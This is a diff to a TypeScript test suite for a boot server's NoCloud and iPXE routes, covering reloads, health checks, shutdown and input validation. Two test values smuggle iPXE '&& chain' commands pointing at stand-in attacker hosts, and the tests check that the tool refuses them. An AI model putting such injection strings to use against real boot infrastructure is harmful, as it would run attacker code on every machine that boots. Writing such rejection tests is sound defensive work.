@@ -1,6 +1,7 @@
 /**
- * crinit serve, answered over real HTTP on loopback: NoCloud and iPXE routes, unknown machines,
- * traversal attempts, and a SIGHUP reload under a bounded load (loopback only).
+ * crinit serve, answered over real HTTP on loopback: NoCloud and iPXE routes, /healthz, unknown
+ * machines, traversal attempts, a SIGHUP reload under a bounded load (loopback only), and a
+ * SIGTERM that a half-sent request cannot hold up.
  */
 import { spawn, type ChildProcess } from 'node:child_process';
 import { existsSync, readFileSync, writeFileSync } from 'node:fs';
@@ -90,24 +91,30 @@ describe('crinit serve', () => {
     const url = `${base}/nocloud/52:54:00:00:00:01/user-data`;
     const statuses: number[] = [];
     const bodies = new Set<string>();
-    let reloaded = false;
-    // A bounded load: 5 workers, 60 requests each, on loopback only.
-    const worker = async () => {
-      for (let i = 0; i < 60; i++) {
+    let slowest = 0;
+    let signalled = false;
+    // A bounded load on loopback: 5 clients, until the reload (in a worker thread) has landed and
+    // each client has made 60 requests, and never more than 3,000 requests in all.
+    const client = async () => {
+      for (let i = 0; i < 600 && (i < 60 || !log().includes('reloaded nodes.yaml')); i++) {
+        const t = performance.now();
         const r = await fetch(url);
         statuses.push(r.status);
         const body = await r.text();
+        slowest = Math.max(slowest, performance.now() - t);
         bodies.add(/NODE_IP=(\S+)/.exec(body)?.[1] ?? '?');
-        if (!reloaded && statuses.length > 100) {
-          reloaded = true;
+        if (!signalled && statuses.length > 100) {
+          signalled = true;
           writeFileSync(join(dir, 'nodes.yaml'), inventory('10.0.0.99'));
           child!.kill('SIGHUP');
         }
       }
     };
-    await Promise.all([worker(), worker(), worker(), worker(), worker()]);
-    expect(statuses.length).toBe(300);
+    await Promise.all([client(), client(), client(), client(), client()]);
+    expect(statuses.length).toBeGreaterThanOrEqual(300);
     expect(statuses.every((s) => s === 200)).toBe(true);
+    // The reload runs off the request path: every request is answered within a second meanwhile.
+    expect(slowest).toBeLessThan(1000);
     expect(bodies).toEqual(new Set(['10.0.0.11', '10.0.0.99']));
     expect(await (await fetch(url)).text()).toContain('NODE_IP=10.0.0.99');
     expect(log()).toContain('reloaded nodes.yaml: 2 machines');
@@ -118,6 +125,52 @@ describe('crinit serve', () => {
     expect(log()).toMatch(/nodes\.yaml:2:5: error E-INVENTORY: the MAC address of bad is not valid/);
     expect(log()).toContain('kept the previous inventory: nodes.yaml has errors');
     expect(await (await fetch(url)).text()).toContain('NODE_IP=10.0.0.99');
+  });
+
+  it('answers /healthz, and points iPXE at --public-url instead of the Host it was asked by', async () => {
+    const dir = tempDir();
+    writeTemp(dir, 'node.yaml', PROFILE);
+    writeTemp(dir, 'nodes.yaml', inventory('10.0.0.11'));
+    let log = '';
+    child = spawn(process.execPath, [CLI, 'serve', '--inventory', 'nodes.yaml', '--listen', '127.0.0.1:0', '--public-url', 'http://boot.example.com:8080/'], { cwd: dir, stdio: ['ignore', 'ignore', 'pipe'] });
+    child.stderr!.on('data', (d: Buffer) => (log += d.toString()));
+    for (let i = 0; i < 100 && !/http:\/\/127\.0\.0\.1:\d+\//.test(log); i++) await new Promise((r) => setTimeout(r, 50));
+    const base = `http://127.0.0.1:${/127\.0\.0\.1:(\d+)\//.exec(log)![1]}`;
+    const health = await fetch(`${base}/healthz`);
+    expect([health.status, await health.text()]).toEqual([200, 'ok 2 machines\n']);
+    const ipxe = await (await fetch(`${base}/ipxe?mac=52-54-00-00-00-01`)).text();
+    expect(ipxe).toContain(' ds=nocloud-net;s=http://boot.example.com:8080/nocloud/52:54:00:00:00:01/\n');
+    const bad = runCli(['serve', '--inventory', 'nodes.yaml', '--public-url', 'http://x/ && chain http://evil/'], { cwd: dir });
+    expect(bad.status).toBe(2);
+    expect(bad.stderr).toContain('error: --public-url takes http(s)://HOST[:PORT]');
+  });
+
+  it('SIGTERM closes a connection that sent half a request within a few seconds', async () => {
+    const dir = tempDir();
+    writeTemp(dir, 'nodes.yaml', 'nodes:\n  - {name: a, mac: "52:54:00:00:00:01", profile: debian-12/containerd}\n');
+    const { base } = await start(dir);
+    const { connect } = await import('node:net');
+    const u = new URL(base);
+    const sock = connect(Number(u.port), u.hostname);
+    await new Promise((r) => sock.once('connect', r));
+    sock.write('GET /healthz HTTP/1.1\r\nHost: 127.0.0.1\r\n');
+    sock.on('error', () => undefined);
+    const exited = new Promise<number>((resolve) => child!.once('exit', () => resolve(performance.now())));
+    const t = performance.now();
+    child!.kill('SIGTERM');
+    const done = await exited;
+    child = undefined;
+    sock.destroy();
+    expect(done - t).toBeLessThan(6000);
+  });
+
+  it('refuses a boot entry that holds iPXE syntax (&&), which would run commands on every machine that boots', () => {
+    const dir = tempDir();
+    writeTemp(dir, 'nodes.yaml', 'nodes:\n  - {name: a, mac: "52:54:00:00:00:01", profile: debian-12/containerd, boot: {kernel: "http://10.0.0.1/vmlinuz", initrd: "http://10.0.0.1/initrd", args: "console=ttyS0 && chain http://evil.example.com/x"}}\n');
+    const r = runCli(['serve', '--inventory', 'nodes.yaml', '--listen', '127.0.0.1:0'], { cwd: dir });
+    expect(r.status).toBe(1);
+    expect(r.stderr).toContain("nodes.yaml:2:5: error E-INVENTORY: the boot entry of a is not valid");
+    expect(r.stderr).toContain("iPXE's own syntax");
   });
 
   it('a port past 65535 is a usage error (exit 2), not an internal one', () => {
